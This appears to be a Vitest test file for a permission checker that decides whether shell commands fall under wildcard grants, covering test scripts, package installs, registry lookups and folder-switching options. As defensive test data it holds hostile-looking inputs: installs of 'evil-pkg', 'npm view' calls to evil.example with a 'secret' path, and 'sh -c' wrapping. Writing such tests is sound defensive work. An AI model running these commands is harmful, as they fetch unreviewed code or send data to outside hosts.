/** Which files a wildcard hands on to a project's tests, and what it brings from a registry: nothing. Every line slipped. */
import { describe, expect, it } from "vitest";
import { shellGranted } from "../../src/domain/grant.ts";

const granted = (script: string, commands: readonly string[], paths = ["src/**"]) =>
  shellGranted(script, { tools: [], paths, commands: [...commands], hosts: [], secrets: [] });
const wide = "npm npx yarn pnpm bun timeout env".split(" ").map((name) => `${name} **`);
const narrow = ["npm run **", "npm run * *", "npm run * -- *", "npm run t* **", "npm run test:* **", "npm test **"];
const each = [...wide, ...narrow];
const test = "src/a.test.ts";

describe("the name of a test's script", () => {
  it.each([
    "npm run test:clean README.md",
    "npm run test:clean docs/",
    "npm run test:clean ./ignored",
    "npm run test:clean ignored/data.db",
    "npm run test:clean node_modules/x",
    "npm run test:reset -- docs/",
    "yarn test:clean docs/",
    "pnpm run test:clean docs/",
    "bun run test:clean docs/",
    "timeout 5 timeout 5 npm run test:clean docs/",
    "env npm run test:clean docs/",
    "npm run test:lib docs/a.ts",
    `npm run test:clean ${test}`,
    `npm run test:unit:clean ${test}`,
    `npm run test:types ${test}`,
    `npm run test:constructor ${test}`,
    `npm run test-unit ${test}`,
    `npm run unit:test ${test}`,
    `yarn test:build ${test}`,
    `pnpm run test:format -- ${test}`,
    `npx npm run test:update ${test}`,
    `sh -c 'npm run test:db ${test}'`,
  ])("[GR-95] %s may remove or compile what it is handed", (script) => {
    expect(granted(script, [...each, "sh -c *"])).toBe(false);
    if (!script.startsWith("sh")) expect(granted(script, [script])).toBe(true);
  });
  it.each([
    "npm run t docs/",
    "npm run tst docs/x",
    "npm run t -- docs/",
    `npm run t ${test}`,
    `npm run tst -- ${test}`,
    `npm -s run t ${test}`,
    `npm run -- t ${test}`,
    `npm run-script t ${test}`,
    `npm rum tst ${test}`,
    `yarn run t ${test}`,
    `yarn t ${test}`,
    `bun run t ${test}`,
  ])("[GR-95] behind `run` any script may be called so: %s", (script) => {
    expect(granted(script, [...each, "npm run-script * **", "npm rum * **", "yarn t *"])).toBe(false);
    expect(granted(script, [script])).toBe(true);
  });
  it.each([
    `npm t ${test}`,
    `npm tst -- ${test}`,
    `npm run test:unit ${test}`,
    `npm run test:e2e:ci -- ${test}`,
    `pnpm run test:watch ${test}`,
    `yarn test:integration ${test}`,
    `timeout 60 npm run test:unit ${test}`,
    "npm run test:clean",
    "npm run t",
  ])("[GR-95] covered: %s", (script) => {
    expect(granted(script, each)).toBe(true);
  });
});

describe("the file that is handed to a test", () => {
  const commands = ["npm test **", "yarn **", "bun **", "npm run **"];
  const files = `README.md docs/a.md docs/ docs ./ignored ignored/data.db src src/ src/a src/a/ tests tests/ tests/b
    test/ e2e/a __tests__/ src/a.ts/ evil.example/x contests/a.ts latest/a.ts a.tests.md mytest.ts test.md tests.d/a.md
    docs/my_tests/x.md docs/a.test docs/x.test/a.md docs/test_x test/.env src/.env spec/x.1 package.json`.split(/\s+/);
  it.each(files.filter((file) => file !== ""))(
    "[GR-95] %s is neither in `paths` nor a test, or may be a folder",
    (file) => {
      for (const script of [
        `npm test ${file}`,
        `npm test -- ${file}`,
        `yarn test ${file}`,
        `npm run test:unit ${file}`,
      ])
        expect(granted(script, commands), script).toBe(false);
      expect(granted(`bun test ${file}`, commands)).toBe(false);
      expect(granted(`npm test ${file}`, [`npm test ${file}`])).toBe(true);
    },
  );
  it.each(
    `src/a.ts ./src/a.ts lib/a.test.ts lib/a.spec.js pkg/a_test.go tests/unit/test_a.py lib/test_a.py test/a.js ./tests/b/c.ts
    app/__tests__/a.tsx spec/models/a_spec.rb e2e/login.ts src/routes/+page.test.ts`.split(/\s+/),
  )("[GR-95] %s is covered", (file) => {
    expect(granted(`npm test ${file}`, commands)).toBe(true);
    expect(granted(`npm run test:unit -- ${file}`, commands)).toBe(true);
    expect(granted(`npm run build ${file}`, commands)).toBe(false);
  });
  it("[GR-95] a protected file in `paths` is no test's", () => {
    expect(granted("npm test package.json", commands, ["**"])).toBe(false);
    expect(granted("npm test docs/a.md", commands, ["docs/*.md"])).toBe(true);
  });
});

describe("packages", () => {
  it.each([
    "npm install evil-pkg",
    "npm install --no-save evil-pkg",
    "npm i build",
    "npm update x",
    "npm audit fix",
    "yarn add x",
    "yarn up x",
    "yarn upgrade x",
    "pnpm add x",
    "bun add x",
    "npm install left-pad @types/node",
    "npm i -D x",
    "npm in x",
    "npm add x",
    "npm ci x",
    "npm clean-install x",
    "npm up x",
    "npm upgrade x",
    "npm rebuild x",
    "npm dedupe x",
    "npm install -- x",
    "npm install -- -x",
    "npm install x@1.0.0",
    "npm --silent install x",
    "npm -- install x",
    "yarn install x",
    "pnpm i x",
    "pnpm install x",
    "pnpm up x",
    "pnpm rebuild x",
    "bun i x",
    "bun install x",
    "bun update x",
    "npx npm install x",
    "timeout 60 npm install x",
  ])("[GR-101] %s brings and runs what no person has read", (script) => {
    expect(granted(script, [...each, "npm * *", "npm * build", "npm install *", "npm in* **", "yarn add *"])).toBe(
      false,
    );
    expect(granted(script, [script])).toBe(true);
  });
  it.each([
    ["npm * build", "npm i build"],
    ["npm * -- build", "npm i -- build"],
    ["npm i* left-pad", "npm install left-pad"],
    ["yarn * test", "yarn add test"],
    ["npm install @types/*", "npm install @types/evil"],
    ["npm install --save-dev left-pad@*", "npm install --save-dev left-pad@6"],
    ["npm install left-pad **", "npm install left-pad evil"],
    ["npm ins *", "npm ins evil"],
  ])("[GR-101] nor does %s name it for that: %s", (grant, script) => {
    expect(granted(script, [grant])).toBe(false);
  });
  it.each([
    ["npm **", "npm install"],
    ["npm **", "npm ci"],
    ["npm **", "npm ci --no-audit --ignore-scripts"],
    ["npm **", "npm audit"],
    ["yarn **", "yarn install --frozen-lockfile"],
    ["pnpm **", "pnpm install"],
    ["bun **", "bun install --production"],
    ["npm **", "npm uninstall left-pad"],
    ["npm **", "npm ls left-pad"],
    ["yarn **", "yarn why left-pad"],
    ["npm * build", "npm run build"],
    ["npm install left-pad **", "npm install left-pad --no-save"],
    ["npm install left-pad", "npm install left-pad"],
  ])("[GR-101] %s covers %s", (grant, script) => {
    expect(granted(script, [grant])).toBe(true);
  });
});

describe("what is asked or done somewhere else", () => {
  it.each([
    "npm view https:evil.example/secret",
    "npm v x@https:evil.example/secret",
    "npm view git@evil.example:secret/y",
    "npm info root@10.0.0.1:x",
    "npm view evil/secret",
    "npm show github:evil/x",
    "yarn info https:evil.example/x",
    "yarn list docs/",
  ])("[GR-101] %s names no package of the registry", (script) => {
    expect(granted(script, ["npm **", "npm view *", "yarn **"])).toBe(false);
  });
  it.each(["npm view left-pad versions", "npm view @types/node@22", "yarn why left-pad@1.0.0"])(
    "[GR-101] %s does",
    (script) => {
      expect(granted(script, ["npm **", "yarn **"])).toBe(true);
    },
  );
  it.each([
    "npx --workspace=web prettier --write src/b.ts",
    "npx -w web eslint --fix src/a.ts",
    "bunx --cwd=web prettier --write src/a.ts",
    "go build -C web -o src/x",
    "npm test --workspace=web src/a.ts",
    "npm test -w web src/a.ts",
    "npm run test -w web -- src/a.ts",
    "yarn --cwd=web test src/a.ts",
    "pnpm --dir=web test src/a.ts",
  ])("[GR-102] %s does it in another folder than its words say", (script) => {
    const [name = "", option = ""] = script.split(" ");
    const spelled = [
      `${name} **`,
      `${name} ${option} **`,
      `${name} ${option} prettier **`,
      "npm test --workspace=web **",
    ];
    expect(granted(script, spelled)).toBe(false);
  });
  it("[GR-102] without such an option it is granted", () => {
    expect(granted("npx prettier --write src/b.ts", ["npx prettier **"])).toBe(true);
    expect(granted("npm test src/a.ts", ["npm test **"])).toBe(true);
  });
});

it.each(["bun run -d test src/x.ts", "bun -d test src/x.ts", "bun add -d x", "bun install -d"])(
  "[GR-85] to bun `-d` is an option with a value: %s",
  (script) => {
    expect(granted(script, ["bun **", "bun run **", "bun install *"])).toBe(false);
    expect(granted(script, [script])).toBe(true);
  },
);
